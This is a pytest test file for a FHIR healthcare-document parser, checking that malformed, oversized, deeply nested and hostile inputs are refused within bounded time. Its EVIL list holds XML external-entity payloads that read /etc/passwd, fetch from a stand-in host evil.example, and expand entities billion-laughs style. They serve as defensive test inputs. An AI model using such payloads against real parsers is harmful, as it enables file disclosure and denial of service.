"""The form of FHIR documents: what is refused unread, what is bounded, what is tolerated."""

import json
import sys
import time
from collections.abc import Callable
from types import FrameType
from typing import Any

import pytest

from hub.edges.anything import LARGEST, Outcome, Part, read_anything
from hub.edges.fhir.as_json import node_from_json
from hub.edges.fhir.as_xml import node_from_xml
from hub.edges.fhir.narrative import narrative_of
from hub.edges.fhir.tree import DEEPEST, MOST_NODES
from hub.edges.mapped import HUBS_OWN_FAULT
from tests.edges.fhir_documents import bundle, patient, reader, stay

FHIR = b'xmlns="http://hl7.org/fhir"'


def only(body: bytes) -> Part:
    """The one outcome of some bytes, which is never a defect of ours."""
    (found,) = read_anything(body, reader())
    assert not found.explanation.startswith(HUBS_OWN_FAULT)
    return found


EVIL = [
    b'<!DOCTYPE Bundle [<!ENTITY a SYSTEM "file:///etc/passwd">]><Bundle %s>&a;</Bundle>' % FHIR,
    b'<!DOCTYPE Bundle SYSTEM "http://evil.example/x.dtd"><Bundle %s/>' % FHIR,
    b'<!DOCTYPE B [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><B %s>&b;</B>' % FHIR,
    b'<!DOCTYPE B [<!ENTITY %% p SYSTEM "http://evil.example/">%%p;]><B %s/>' % FHIR,
]


@pytest.mark.parametrize("body", EVIL, ids=["file", "outside", "laughs", "parameter"])
def test_no_entity_and_nothing_outside_is_ever_read(body: bytes) -> None:
    """Refused at the declaration."""
    found = only(body)
    assert (Outcome.QUARANTINED, "unparseable") == (found.outcome, found.reason)
    assert "document type" in found.explanation


BROKEN = [
    b"<Bundle %s>" % FHIR,
    b"<Bundle %s/><Bundle/>" % FHIR,
    b"<Bundle %s>&nbsp;</Bundle>" % FHIR,
    b'<?xml version="1.0" encoding="klingon"?><Bundle %s/>' % FHIR,
    b'<f:bundle xmlns:f="http://hl7.org/fhir"/>',
    b'<Bundle xmlns="urn:x"><a xmlns="http://hl7.org/fhir"/></Bundle>',
    b'{"resourceType": 7}',
    b'{"resourceType": "Bundle", "entry": [[1]]}',
    b'{"resourceType": "Bundle", "entry": [{"resource": "x"}]}',
    b'{"resourceType": "Bundle", "entry": {"resource": {"resourceType": "Patient", "name": 7}}}',
    b'{"resourceType": "Bundle", "entry": [null, {"resource": {"resourceType": []}}]}',
    b'{"resourceType": "Patient", "identifier": "9990000018", "birthDate": {"a": []}}',
    b'{"resourceType": "Bundle", "type": "message", "entry": [{"resource": {"id": ""}}]}',
]


@pytest.mark.parametrize("body", BROKEN)
def test_what_is_broken_is_refused_or_passed_over(body: bytes) -> None:
    """With a reason, and never with an event."""
    found = only(body)
    assert Outcome.EVENTS is not found.outcome
    assert found.reason


def deep_json(levels: int) -> bytes:
    """JSON nested so deep."""
    return b'{"resourceType": "Basic", "a": ' + b'{"a":' * levels + b"1" + b"}" * levels + b"}"


def deep_xml(levels: int) -> bytes:
    """XML nested so deep."""
    return b"<Basic %s>" % FHIR + b"<a>" * levels + b"</a>" * levels + b"</Basic>"


@pytest.mark.parametrize("levels", [DEEPEST + 1, 100_000])
@pytest.mark.parametrize("made", [deep_json, deep_xml], ids=["json", "xml"])
def test_what_is_nested_too_deep_is_refused(made: Any, levels: int) -> None:
    """Far from the end of the stack."""
    found = only(made(levels)[:LARGEST])
    assert (Outcome.QUARANTINED, "unparseable") == (found.outcome, found.reason)


@pytest.mark.parametrize(
    "body",
    [
        b'{"resourceType": "Basic", "a": [' + b"1," * MOST_NODES + b"1]}",
        b"<Basic %s>" % FHIR + b"<a/>" * (MOST_NODES + 1) + b"</Basic>",
    ],
    ids=["json", "xml"],
)
def test_too_many_elements_are_refused(body: bytes) -> None:
    """Counted, not built."""
    found = only(body)
    assert "oversize" == found.reason


NOTHINGS: dict[str, Callable[[int], bytes]] = {
    "div": lambda n: b"<Basic %s><text><div>" % FHIR + b"<b>" * 60 + b"x" * (9 * n),
    "tags": lambda n: b'{"resourceType": "Basic", "div": "' + b"<" * (9 * n) + b'"}',
    "entities": lambda n: b'{"resourceType": "Basic", "div": "' + b"&amp" * (2 * n) + b'"}',
    "lists": lambda n: b'{"resourceType": "Basic", "identifier": [' + b"{}," * (n // 2) + b"{}]}",
    "angles": lambda n: b"<" * (9 * n),
    "headers": lambda n: b"MSH|^~\\&|" + b"\rMSH|^~\\&|" * (n * 4 // 5),
    "braces": lambda n: b"{" * (9 * n),
    "starts": lambda n: b"\x0b" * (9 * n),
    "frames": lambda n: b"\x0bMSH\x1c\r" * n,
}
"""What is nothing but long, of a size."""

SMALL, LARGE = 12_500, 100_000
STEPS_PER_STEP = 3
"""Between a small one and one eight times as large: eight is linear, and twenty-four no square."""


def steps_of(body: bytes) -> int:
    """How many lines of ours are run to read a body: the same on every machine, however busy."""
    steps = 0

    def trace(frame: FrameType, event: str, _: object) -> Any:
        nonlocal steps
        if "/hub/" not in frame.f_code.co_filename:
            return None
        steps += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        assert read_anything(body, reader())
    finally:
        sys.settrace(before)
    return steps


@pytest.mark.parametrize("made", NOTHINGS.values(), ids=NOTHINGS.keys())
def test_reading_nothing_takes_no_more_steps_than_there_is_of_it(
    made: Callable[[int], bytes],
) -> None:
    """No document may hold up the others: eight times as much takes about eight times as many."""
    small, large = steps_of(made(1_000)), steps_of(made(8_000))
    assert large <= small * 8 * STEPS_PER_STEP


@pytest.mark.parametrize("made", NOTHINGS.values(), ids=NOTHINGS.keys())
def test_a_megabyte_of_nothing_is_read_in_its_own_time(made: Callable[[int], bytes]) -> None:
    """What runs inside a library takes no steps of ours: its own time on the processor is counted,
    which does not depend on who else is on the machine, and held against a smaller one's.
    """
    began = time.process_time()
    read_anything(made(SMALL), reader())
    middle = time.process_time()
    read_anything(made(LARGE), reader())
    small, large = middle - began, time.process_time() - middle
    assert large <= max(small, 0.05) * (LARGE // SMALL) * STEPS_PER_STEP


def test_a_place_is_counted_as_fhirpath_counts() -> None:
    """Elements of which there may be several have their number."""
    document = bundle(stay(), patient())
    by_json = node_from_json(json.dumps(document).encode())
    assert "Bundle.entry[1].resource.identifier[0].value" == by_json.all("entry")[1].place(
        "resource", "identifier", "value"
    )
    by_xml = node_from_xml(b"<Patient %s><a value='1'/><a value='2'/><b/></Patient>" % FHIR)
    places = [each.path for names in ("a", "b", "c") for each in by_xml.all(names)]
    assert ["Patient.a[0]", "Patient.a[1]", "Patient.b"] == places


def test_a_name_that_the_sender_made_up_is_not_repeated() -> None:
    """It may be an identity."""
    node = node_from_json(b'{"resourceType": "Patient", "Ada Quillfeather": {"x": [1]}}')
    assert "Patient.(unreadable name)" == node.all("Ada Quillfeather")[0].path


def test_a_narrative_keeps_headings_apart() -> None:
    """Rows, breaks and entities become lines."""
    text, lines = narrative_of(
        "<div><table><tr><th>Risk</th><td>None<br/>known</td></tr></table><p>A &amp; B</div>"
    )
    assert "Risk:\nNone\nknown\nA & B" == text
    assert [("None", "Risk"), ("known", "Risk"), ("A & B", "")] == [
        (line.text, line.heading) for line in lines
    ]


def test_other_character_sets_are_read() -> None:
    """UTF-16 XML, as some systems write it."""
    document = '<?xml version="1.0" encoding="UTF-16"?><Basic xmlns="http://hl7.org/fhir"/>'
    assert "Basic" == node_from_xml(document.encode("utf-16")).kind
    assert Outcome.IGNORED is only(document.encode("utf-16")).outcome
